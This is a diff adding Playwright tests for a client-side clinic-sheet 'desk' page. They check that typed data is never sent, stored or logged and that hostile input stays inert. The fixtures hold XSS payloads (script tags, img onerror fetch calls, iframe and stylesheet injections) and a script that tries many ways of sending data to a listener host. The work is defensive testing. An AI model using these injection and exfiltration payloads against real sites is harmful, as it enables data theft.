@@ -1,0 +1,204 @@
+"""What is typed at the desk stays there: no request, no storage, no log, no address; and hostile text stays text."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from desk_driver import (
+    clear,
+    fill,
+    listen,
+    load,
+    new_context,
+    open_desk,
+    pick,
+    put,
+    read_form,
+    serve,
+    settle,
+    sheet_text,
+    state,
+    wait_ready,
+)
+from playwright.sync_api import Browser, BrowserContext, expect
+
+CANARY = "Quillonia Brambleknot"
+FRAME = "document.getElementById('desk-frame').contentDocument"
+STORED = """async () => JSON.stringify([
+    Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, location.href,
+    (await indexedDB.databases()).length, isSecureContext ? await caches.keys() : [], history.length,
+])"""
+# Every way out of a page that we know of. Each must fail, and nothing may arrive.
+WAYS_OUT = """async away => {
+    const tried = [];
+    const attempt = async (name, act) => { try { await act(); tried.push(name); } catch { /* refused */ } };
+    await attempt("fetch", () => fetch(away + "/fetch", { mode: "no-cors" }));
+    navigator.sendBeacon(away + "/beacon", "x");  // says that it was sent even where the policy stops it
+    await attempt("worker", () => new Promise((done, failed) => {
+        const worker = new Worker("/desk/engine/pyodide.js");
+        worker.onerror = failed; worker.onmessage = done; setTimeout(done, 500);
+    }));
+    await attempt("blob worker", () => new Promise((done, failed) => {
+        const code = new Blob([`fetch("${away}/blob-worker", { mode: "no-cors" })`]);
+        const worker = new Worker(URL.createObjectURL(code)); worker.onerror = failed; setTimeout(done, 500);
+    }));
+    await attempt("socket", () => new Promise((done, failed) => {
+        const socket = new WebSocket(away.replace("http", "ws")); socket.onopen = done; socket.onerror = failed;
+    }));
+    await attempt("events", () => new Promise((done, failed) => {
+        const source = new EventSource(away + "/events"); source.onopen = done; source.onerror = failed;
+    }));
+    await attempt("image", () => new Promise((done, failed) => {
+        const image = new Image(); image.onload = done; image.onerror = failed; image.src = away + "/image";
+    }));
+    await attempt("script", () => new Promise((done, failed) => {
+        const script = document.createElement("script"); script.onload = done; script.onerror = failed;
+        script.src = away + "/script"; document.head.append(script);
+    }));
+    await attempt("inline", () => {
+        const script = document.createElement("script");
+        script.textContent = "window.ran = true"; document.head.append(script);
+        if (!window.ran) throw 0;
+    });
+    await attempt("eval", () => eval("1"));
+    for (const [tag, name] of [["iframe", "src"], ["object", "data"], ["link", "href"]]) {
+        const made = document.createElement(tag);
+        if (tag === "link") made.rel = "stylesheet";
+        made[name] = away + "/" + tag;
+        document.body.append(made);
+    }
+    const style = document.createElement("style");
+    style.textContent = `body { background: url(${away}/style) } @import "${away}/import";`;
+    document.head.append(style);
+    const form = document.createElement("form");
+    form.action = away + "/form"; form.target = "_blank"; document.body.append(form); form.submit();
+    await new Promise(done => setTimeout(done, 700));
+    return tried;
+}"""
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    made = new_context(browser)
+    yield made
+    made.close()
+
+
+def spoil(case: dict[str, Any], away: str) -> dict[str, Any]:
+    """A case whose every text tries to be more than text."""
+    image = f"<img src={away}/hostile onerror=fetch('{away}/ran')>"
+    return {
+        **case,
+        "name": f"{CANARY} {image}",
+        "note": f"</style></head><script>fetch('{away}/ran')</script>{image} {{{{ 7 * 7 }}}} <iframe src={away}/frame>",
+        "important_dates": [{"what": f"Trip {image}", "date": "2027-02-03"}],
+        "clinic": {"name": f"Clinic {image}", "lines": [f"<link rel=stylesheet href={away}/css>"]},
+    }
+
+
+def test_nothing_leaves_and_nothing_stays(context: BrowserContext, desk_site: Path, small_case: dict[str, Any]) -> None:
+    with serve(desk_site) as address, listen() as (away, heard):
+        page = open_desk(context, address)
+        stored = page.evaluate(STORED)
+        asked: list[str] = []
+        said: list[str] = []
+        context.on("request", lambda request: asked.append(request.url))
+        context.on("console", lambda message: said.append(message.text))
+        fill(page, spoil(small_case, away))
+        settle(page)
+        assert state(page) == "The sheets are up to date."
+        assert CANARY in sheet_text(page)
+        assert page.evaluate(f"{FRAME}.querySelectorAll('img, script, iframe, link').length") == 0
+        with page.expect_download() as waiting:
+            page.locator("#do-save").click()
+        assert "Quillonia" not in waiting.value.suggested_filename
+        page.locator("#do-print").click()
+        assert [url for url in asked if not url.startswith("blob:")] == []
+        assert heard == []
+        assert not any("Quillonia" in text for text in said)
+        assert page.evaluate(STORED) == stored
+        clear(page)
+        assert "Quillonia" not in page.evaluate(
+            f"document.documentElement.outerHTML + {FRAME}.documentElement.outerHTML"
+        )
+        assert "Quillonia" not in json.dumps(read_form(page))
+
+
+def test_every_way_out_is_shut(context: BrowserContext, desk_site: Path) -> None:
+    with serve(desk_site) as address, listen() as (away, heard):
+        page = open_desk(context, address)
+        assert page.evaluate(WAYS_OUT, away) == []
+        assert heard == []
+
+
+def test_the_listener_would_hear_it(context: BrowserContext, desk_site: Path) -> None:
+    """Another page of the site has no such policy: what the test above tries does arrive from there."""
+    with serve(desk_site) as address, listen() as (away, heard):
+        page = context.new_page()
+        page.goto(f"{address}/injuries/index.html")
+        assert {"fetch", "inline"} <= set(page.evaluate(WAYS_OUT, away))
+        assert {"/fetch", "/beacon", "/image", "/script", "/style"} <= set(heard)
+
+
+def test_only_this_page_has_the_policy_and_the_engine(desk_site: Path) -> None:
+    pages = sorted(desk_site.rglob("*.html"))
+    with_policy = [p for p in pages if "Content-Security-Policy" in p.read_text(encoding="utf-8")]
+    assert [p.relative_to(desk_site).as_posix() for p in with_policy] == ["desk/index.html"]
+    for page in pages:
+        if page not in with_policy:
+            assert "assets/desk/" not in page.read_text(encoding="utf-8")
+    text = with_policy[0].read_text(encoding="utf-8")
+    assert re.findall(r"script-src [^;]*", text) == ["script-src 'self' 'wasm-unsafe-eval'"]
+    assert 'sandbox="allow-same-origin allow-modals"' in text
+
+
+def test_a_letterhead_is_kept_only_where_asked(
+    context: BrowserContext, desk_site: Path, small_case: dict[str, Any]
+) -> None:
+    with serve(desk_site) as address:
+        page = open_desk(context, address)
+        clinic = {"name": "Climbing Clinic", "lines": ["3 Old Lane"], "phone": "555"}
+        load(page, {**small_case, "name": CANARY, "clinic": clinic})
+        assert page.evaluate("localStorage.length") == 0
+        page.locator("#part-letterhead > summary").click()
+        page.locator("#desk-keep").check()
+        assert "Quillonia" not in page.evaluate("JSON.stringify(Object.entries(localStorage))")
+        clear(page)
+        assert page.locator('[data-path="clinic.name"]').input_value() == "Climbing Clinic"
+        page.reload()
+        wait_ready(page)
+        assert page.locator('[data-path="clinic.lines"]').input_value() == "3 Old Lane"
+        pick(page, "protocol", "pulley")
+        page.locator("#part-letterhead > summary").click()
+        page.locator("#desk-keep").uncheck()
+        assert page.evaluate("localStorage.length") == 0
+
+
+def test_it_works_from_a_folder(context: BrowserContext, desk_site: Path, small_case: dict[str, Any]) -> None:
+    page = open_desk(context, desk_site.as_uri())
+    load(page, small_case)
+    put(page, "note", "From a folder.")
+    settle(page)
+    assert "From a folder." in sheet_text(page)
+
+
+def test_without_webassembly_it_says_so(context: BrowserContext, desk_site: Path) -> None:
+    context.add_init_script("delete globalThis.WebAssembly;")
+    with serve(desk_site) as address:
+        page = context.new_page()
+        page.goto(f"{address}/desk/index.html")
+        expect(page.locator("#desk-stop")).to_contain_text("It needs WebAssembly")
+        assert page.locator("#desk-stop a").count() == 7
+
+
+def test_where_the_engine_does_not_come_it_says_so(context: BrowserContext, desk_site: Path) -> None:
+    context.route("**/parts/python-*", lambda route: route.abort())
+    with serve(desk_site) as address:
+        page = context.new_page()
+        page.goto(f"{address}/desk/index.html")
+        expect(page.locator("#desk-stop")).to_contain_text("could not be loaded")
